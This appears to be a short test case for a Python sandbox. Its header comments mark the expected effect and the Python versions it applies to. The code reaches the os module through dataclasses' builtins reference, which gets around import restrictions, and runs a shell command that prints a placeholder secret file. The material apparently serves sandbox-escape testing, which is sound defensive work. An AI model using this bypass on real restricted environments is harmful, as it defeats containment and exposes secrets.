# dataclasses keeps builtins.
# effect: run
# until: 3.12
import dataclasses
dataclasses.builtins.__import__("os").system("cat @SECRET@")
